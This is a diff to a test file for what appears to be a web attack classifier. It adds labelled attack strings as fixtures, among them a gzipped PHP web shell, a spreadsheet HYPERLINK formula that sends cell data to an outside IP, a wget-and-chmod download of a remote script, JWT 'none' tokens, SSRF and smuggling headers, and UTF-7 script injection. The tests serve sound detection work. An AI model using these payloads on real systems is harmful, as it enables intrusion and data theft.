@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib';
 import type { AttackType, EvidencePlace } from '@aegis/model';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
@@ -77,6 +78,38 @@ const ATTACKS: readonly Row[] = [
     'known_vulnerability_probe',
     'path',
   ],
+  ['/actuator/env', 'vulnerability_probe', 'management_probe', 'path'],
+  ['/boaform/admin/formLogin', 'vulnerability_probe', 'device_probe', 'path'],
+  ['/index.php.bak', 'vulnerability_probe', 'backup_probe', 'path'],
+  ['/site-2024-05.tar.gz', 'vulnerability_probe', 'backup_probe', 'path'],
+  ['/.terraform/state', 'vulnerability_probe', 'hidden_file_probe', 'path'],
+  ['/metrics', 'vulnerability_probe', 'management_probe', 'path'],
+  [
+    '<methodCall><methodName>system.multicall</methodName></methodCall>',
+    'vulnerability_probe',
+    'wordpress_probe',
+    'body',
+  ],
+  ['{"query":"{__schema{types{name}}}"}', 'vulnerability_probe', 'graphql_introspection', 'body'],
+  ['%08x.%08x.%08x.%08x.%n', 'protocol_attack', 'format_string'],
+  ['%n.%n', 'protocol_attack', 'format_string'],
+  ["=cmd|' /C calc'!A0", 'command_execution', 'formula_injection'],
+  ['=HYPERLINK("http://203.0.113.5/?"&A1,"x")', 'protocol_attack', 'formula_injection', 'body'],
+  [
+    `Bearer ${Buffer.from('{"alg":"None"}').toString('base64url')}.${Buffer.from('{"sub":"root"}').toString('base64url')}.`,
+    'protocol_attack',
+    'jwt_none_algorithm',
+    'header',
+    'authorization',
+  ],
+  ['bank.example@evil.example', 'protocol_attack', 'host_header_injection', 'header', 'host'],
+  ['169.254.169.254', 'protocol_attack', 'host_header_ssrf', 'header', 'host'],
+  ['/admin', 'protocol_attack', 'path_override', 'header', 'x-original-url'],
+  ['xchunked', 'protocol_attack', 'request_smuggling', 'header', 'transfer-encoding'],
+  ['x', 'php_object_injection', 'class_loader_access', 'query', 'class.module.classLoader.x'],
+  ['http://a1b2.oastify.com/', 'ssrf', 'out_of_band_host', 'header', 'referer'],
+  ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'cross_site_scripting', 'reflected_script'],
+  [gzipSync('<?php system($_GET[1]); ?>').toString('base64'), 'php_code_injection', 'web_shell', 'body'],
   ['shell.php.jpg', 'file_upload', 'double_extension', 'body', 'filename'],
   [
     'cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh',
@@ -339,4 +372,44 @@ test.each([...new Set(REPEATED)])('64 KB of %j come back', (piece) => {
 test('prototype keys are names like any other', () => {
   for (const part of ['__proto__', 'constructor', 'toString'])
     expect(classifyPayload('1', { place: 'query', part })).toEqual([]);
+});
+
+/** A site's own pages, files and interfaces. */
+test.each([
+  '/about',
+  '/products/shoes.html',
+  '/static/app.3f2a.js',
+  '/api/v1/users/42',
+  '/.well-known/acme-challenge/abc',
+  '/favicon.ico',
+  '/robots.txt',
+  '/downloads/report-2024.pdf',
+  '/files/archive.zip',
+  '/search/1.5',
+  '/login',
+  '/graphql',
+  '/users/sign_in',
+  '/package.json',
+  '/blog/metrics-that-matter',
+  '/products/information',
+])('the path %s belongs to a site', (text) => {
+  expect(classifyPayload(text, { place: 'path', part: '' })).toEqual([]);
+});
+
+test.each([
+  ['host', 'www.example.org'],
+  ['host', 'localhost:8080'],
+  ['host', '[2001:db8::1]:443'],
+  ['x-forwarded-host', 'shop.example.org'],
+  ['transfer-encoding', 'chunked'],
+  ['x-forwarded-for', '203.0.113.9, 10.0.0.1'],
+  ['content-type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk'],
+  ['cookie', 'session=eyJhIjoxfQ; theme=dark'],
+])('the header %s: %s says nothing', (part, text) => {
+  expect(classifyPayload(text, { place: 'header', part })).toEqual([]);
+});
+
+test('a gzip bomb is cut', () => {
+  const bomb = gzipSync(Buffer.alloc(50_000_000, 'a ')).toString('base64');
+  expect(classifyPayload(bomb).length).toBeLessThan(20);
 });
